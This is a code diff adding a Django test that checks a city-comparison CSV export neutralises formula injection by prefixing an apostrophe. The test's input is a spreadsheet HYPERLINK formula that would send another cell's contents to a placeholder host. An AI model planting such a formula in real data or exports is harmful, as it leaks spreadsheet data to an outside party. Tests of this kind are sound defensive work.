@@ -197,3 +197,16 @@ def test_published_peers_link_to_their_public_profiles_and_names_are_escaped(cli
     assert reverse("public_profile", kwargs={"slug": "peer-0", "year": 2025}) in html
     assert "Peer &lt;b&gt;1&lt;/b&gt;" in html and "Peer <b>1</b>" not in html
     assert '<option value="peer-0">Peer 0 (Testland)</option>' in html
+
+
+def test_the_csv_writes_a_city_name_that_looks_like_a_formula_as_text(client, lead, subject, five_peers):
+    name = '=HYPERLINK("http://x/?"&B2,"a")'
+    subject.city.name = name
+    subject.city.save()
+    client.force_login(lead)
+    response = client.get(
+        reverse("assessment_compare_csv", kwargs={"slug": subject.city.slug, "pk": subject.pk}) + "?group=all"
+    )
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[0][:2] == ["City", "'" + name]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
